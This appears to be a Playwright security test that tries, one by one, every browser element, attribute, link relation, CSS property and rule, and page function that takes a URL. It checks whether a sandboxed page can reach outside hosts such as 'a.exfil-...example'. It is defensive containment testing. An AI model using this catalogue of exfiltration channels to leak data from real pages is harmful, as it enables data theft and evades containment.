/**
 * Ways out from the browser's own lists: every element, attribute, link relation and CSS property, and every function and constructor that
 * takes an address. They include ways that nobody has thought of.
 */
import type { Page } from '@playwright/test';
import type { Attack } from './page.ts';

export async function tryElements(window: Page): Promise<void> {
  await window.evaluate(async () => {
    const { attempt, pause, web } = (globalThis as unknown as { attack: Attack }).attack;
    const TAGS =
      'a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button ' +
      'canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div dl dt em embed ' +
      'fencedframe fieldset figcaption figure font footer form frame frameset h1 head header hgroup hr html i iframe image img ' +
      'input ins isindex kbd keygen label legend li link listing main map mark marquee menu menuitem meta meter multicol nav nextid ' +
      'nobr noembed noframes noscript object ol optgroup option output p param permission picture plaintext portal pre progress q ' +
      'rb rp rt rtc ruby s samp script search section select selectlist shadow slot small source spacer span strike strong style ' +
      'sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr webview xmp';
    const SVG =
      'a animate animateMotion animateTransform circle clipPath color-profile cursor defs discard ellipse feDisplacementMap feImage ' +
      'filter font-face-uri foreignObject g glyphRef image iframe line linearGradient marker mask mpath path pattern radialGradient ' +
      'rect script set style svg switch symbol text textPath tref tspan use video view';
    const ATTRIBUTES =
      'src href action formaction data poster background cite longdesc profile classid codebase archive code object icon manifest ' +
      'dynsrc lowsrc srcset imagesrcset ping attributionsrc usemap itemtype content value longdesc xml:base srcdoc filter mask style';
    const SPACES: Record<string, [string, string]> = {
      html: ['http://www.w3.org/1999/xhtml', TAGS],
      svg: ['http://www.w3.org/2000/svg', SVG],
      math: ['http://www.w3.org/1998/Math/MathML', 'math a mglyph mtext semantics annotation-xml maction'],
    };
    const valueOf = (attribute: string, url: string): string => {
      if (attribute === 'srcset' || attribute === 'imagesrcset') return `${url} 1x, ${url}-2 2x`;
      if (attribute === 'style') return `background: url(${url}); filter: url(${url}#x); mask: url(${url}#x)`;
      if (attribute === 'filter' || attribute === 'mask') return `url(${url}#x)`;
      if (attribute === 'content') return `0;url=${url}`;
      return attribute === 'srcdoc' ? `<img src="${url}"><link rel="dns-prefetch" href="${url}">` : url;
    };
    for (const [space, [namespace, tags]] of Object.entries(SPACES)) {
      const parent =
        space === 'html'
          ? document.body
          : document.body.appendChild(document.createElementNS(namespace, space));
      for (const tag of tags.split(' ')) {
        await attempt(`<${space}:${tag}>`, () => {
          for (const base of [web, `https://a.exfil-${space}-${tag.toLowerCase()}.example`]) {
            const made = document.createElementNS(namespace, tag) as HTMLElement & Record<string, unknown>;
            for (const attribute of ATTRIBUTES.split(' ')) {
              try {
                made.setAttribute(attribute, valueOf(attribute, `${base}/${tag}-${attribute}`));
              } catch {
                // Trusted Types refuse some.
              }
            }
            for (const [name, value] of [
              ['http-equiv', 'refresh'],
              ['type', 'image'],
              ['rel', 'stylesheet'],
              ['as', 'image'],
            ] as const) {
              if (tag !== 'script' && tag !== 'object' && tag !== 'embed') made.setAttribute(name, value);
            }
            if (space !== 'html') {
              made.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', `${base}/${tag}-xlink`);
              made.setAttribute('attributeName', 'href');
              made.setAttribute('to', `${base}/${tag}-to`);
            }
            parent.append(made);
            for (const act of [
              'load',
              'play',
              'click',
              'submit',
              'requestSubmit',
              'beginElement',
              'showPicker',
            ]) {
              try {
                const doIt: unknown = made[act];
                if (typeof doIt !== 'function') continue;
                void Promise.resolve(Reflect.apply(doIt, made, [])).catch(() => undefined);
              } catch {
                // Refused.
              }
            }
          }
        });
      }
    }
    await pause(300);
  });
}

export async function tryLinks(window: Page): Promise<void> {
  await window.evaluate(async () => {
    const { attempt, link, web } = (globalThis as unknown as { attack: Attack }).attack;
    const RELATIONS =
      'alternate amphtml apple-touch-icon apple-touch-icon-precomposed apple-touch-startup-image author bookmark canonical ' +
      'compression-dictionary dictionary dns-prefetch edituri expect external facilitated-payment first help icon import index last ' +
      'license manifest mask-icon me micropub modulepreload monetization next nofollow noopener openid.server opener payment ' +
      'pingback preconnect prefetch preload prerender prev privacy-policy search serviceworker shortcut sitemap stylesheet subresource ' +
      'tag terms-of-service token_endpoint up webmention';
    const KINDS =
      'audio audioworklet document embed fetch font frame iframe image json manifest object paintworklet report script serviceworker ' +
      'sharedworker style track video worker xslt';
    for (const relation of RELATIONS.split(' ')) {
      await attempt(`link ${relation}`, () => {
        const name = relation.replaceAll(/\W+/g, '-');
        for (const url of [`${web}/${name}`, `https://a.exfil-rel-${name}.example/`])
          for (const more of [
            { as: 'image' },
            { as: 'script', crossOrigin: 'use-credentials' },
            { media: 'all', sizes: 'any' },
          ])
            link(relation, url, more);
      });
    }
    for (const kind of KINDS.split(' ')) {
      await attempt(`preload of ${kind}`, () => {
        for (const relation of ['preload', 'modulepreload', 'prefetch'])
          for (const url of [`${web}/${relation}-${kind}`, `https://a.exfil-${relation}-${kind}.example/`])
            link(relation, url, { as: kind });
      });
    }
  });
}

export async function tryStyles(window: Page): Promise<void> {
  await window.evaluate(async () => {
    const { attempt, element, pause, web } = (globalThis as unknown as { attack: Attack }).attack;
    const values = (url: string): string[] => [
      `url(${url})`,
      `url(${url}#x)`,
      `image-set(url(${url}) 1x)`,
      `-webkit-image-set(url(${url}) 1x)`,
      `url(${url}) 1`,
      `url(${url}), auto`,
      `cross-fade(url(${url}), url(${url}-2), 50%)`,
      `src(${url})`,
      `paint(x, url(${url}))`,
    ];
    const properties = [...getComputedStyle(document.body)];
    const box = element('div', { textContent: 'x' });
    box.style.width = box.style.height = '20px';
    box.style.display = 'list-item';
    for (const property of properties) {
      await attempt(`CSS ${property}`, () => {
        for (const url of [`${web}/css-${property}`, `https://a.exfil-css-${property}.example/`])
          for (const value of values(url)) box.style.setProperty(property, value);
        void box.offsetWidth;
      });
    }
    const rules: Record<string, (url: string) => string> = {
      import: (url) => `@import url(${url});`,
      'import with a layer': (url) => `@import "${url}" layer(x) supports(display: block) screen;`,
      font: (url) => `@font-face { font-family: "exfil"; src: url(${url}) format("woff2"), url(${url}-2) }`,
      namespace: (url) => `@namespace url(${url});`,
      document: (url) => `@document url(${url}) { body { color: red } }`,
      'counter style': (url) => `@counter-style x { system: cyclic; symbols: url(${url}) }`,
      property: (url) => `@property --x { syntax: "<url>"; inherits: false; initial-value: url(${url}) }`,
      keyframes: (url) =>
        `@keyframes x { from { background: url(${url}) } to { cursor: url(${url}), auto } }`,
      content: (url) => `body::before { content: url(${url}) }`,
      cursor: (url) => `* { cursor: url(${url}), auto !important }`,
      list: (url) => `* { list-style-image: url(${url}); border-image: url(${url}) 1 }`,
      selection: (url) => `::selection, ::marker, ::backdrop, ::placeholder { background: url(${url}) }`,
      view: (url) => `::view-transition-old(root) { background: url(${url}) }`,
      map: (url) => `/*# sourceMappingURL=${url} */ body { --x: 1 }`,
    };
    for (const [name, rule] of Object.entries(rules)) {
      for (const url of [`${web}/rule`, 'https://a.exfil-rule.example/']) {
        await attempt(`CSS rule ${name}, adopted`, async () => {
          const sheet = new CSSStyleSheet();
          sheet.replaceSync(rule(url));
          document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
          await sheet.replace(rule(url));
        });
        await attempt(`CSS rule ${name}, in the page's sheet`, () => {
          const [own] = document.styleSheets;
          own?.insertRule(rule(url), 0);
        });
        await attempt(`CSS rule ${name}, in a style element`, () =>
          element('style', { textContent: rule(url) }),
        );
        await attempt(`CSS rule ${name}, in a data sheet`, () =>
          Object.assign(element('link'), {
            rel: 'stylesheet',
            href: `data:text/css,${encodeURIComponent(rule(url))}`,
          }),
        );
      }
    }
    await attempt('font', () => new FontFace('x', `url(${web}/font)`).load());
    await attempt('font of the page', () => {
      box.style.fontFamily = 'exfil';
      return document.fonts.load('12px exfil', 'x');
    });
    await pause(300);
  });
}

/** Calls the page's functions with addresses, except those that wait for a user, end the page, or run text, which Trusted Types refuse. */
export async function tryFunctions(window: Page): Promise<void> {
  await window.evaluate(async () => {
    const { attack } = globalThis as unknown as { attack: Attack };
    const { attempt, pause, web, tcp } = attack;
    const LEFT_OUT =
      /^(?:alert|confirm|prompt|print|close|stop|eval|Function|attack|reload|go|back|forward|__.*|tokenCache|app|setInterval|setTimeout|requestAnimationFrame|requestIdleCallback|queueMicrotask|replaceChildren|write|writeln|open|remove|replaceWith|append|prepend|removeChild|replaceChild|normalize|adoptNode|after|before|moveBefore|insertBefore|appendChild|playwright.*)$/;
    const argumentsFor = (url: string): unknown[][] => [
      [url],
      [url, url],
      ['x', url],
      [[url]],
      [{ url, src: url, href: url, urls: [url], uri: url, source: url, iceServers: [{ urls: url }] }],
      ['127.0.0.1', tcp],
    ];
    const names = (object: object): string[] => {
      const all = new Set<string>();
      for (
        let at: object | null = object;
        at !== null && at !== Object.prototype;
        at = Reflect.getPrototypeOf(at)
      )
        for (const name of Object.getOwnPropertyNames(at)) all.add(name);
      return [...all];
    };
    const urls = (name: string): string[] => [
      `${web}/${name}`,
      `ws://127.0.0.1:${tcp}/${name}`,
      `https://a.exfil-${name.toLowerCase().replaceAll(/\W+/g, '-')}.example/`,
    ];
    const keep = (result: unknown): void => void Promise.resolve(result).catch(() => undefined);
    const call = async (path: string, owner: object, name: string): Promise<void> => {
      if (LEFT_OUT.test(name)) return;
      let found: unknown;
      try {
        found = Reflect.get(owner, name);
      } catch {
        return;
      }
      if (typeof found !== 'function') return;
      const isClass = /^[A-Z]/.test(name);
      await attempt(`${isClass ? 'new ' : ''}${path}.${name}`, () => {
        for (const url of urls(name)) {
          for (const args of argumentsFor(url)) {
            try {
              keep(isClass ? Reflect.construct(found, args) : Reflect.apply(found, owner, args));
            } catch {
              // Refused.
            }
          }
        }
      });
    };
    for (const name of names(window)) await call('window', window, name);
    const holders: [string, unknown][] = [
      ['document', document],
      ['navigator', navigator],
      ...names(navigator).map((name): [string, unknown] => [
        `navigator.${name}`,
        Reflect.get(navigator, name),
      ]),
      ...[
        'caches',
        'cookieStore',
        'CSS',
        'external',
        'history',
        'indexedDB',
        'navigation',
        'scheduler',
        'screen',
        'sharedStorage',
        'speechSynthesis',
        'trustedTypes',
        'visualViewport',
        'launchQueue',
        'performance',
        'fence',
        'ai',
        'translation',
      ].map((name): [string, unknown] => [name, Reflect.get(window, name)]),
      ['CSS.paintWorklet', Reflect.get(CSS, 'paintWorklet')],
      ['document.fonts', document.fonts],
    ];
    for (const [path, holder] of holders) {
      if (typeof holder !== 'object' || holder === null) continue;
      for (const name of names(holder)) await call(path, holder, name);
    }
    await pause(500);
  });
}
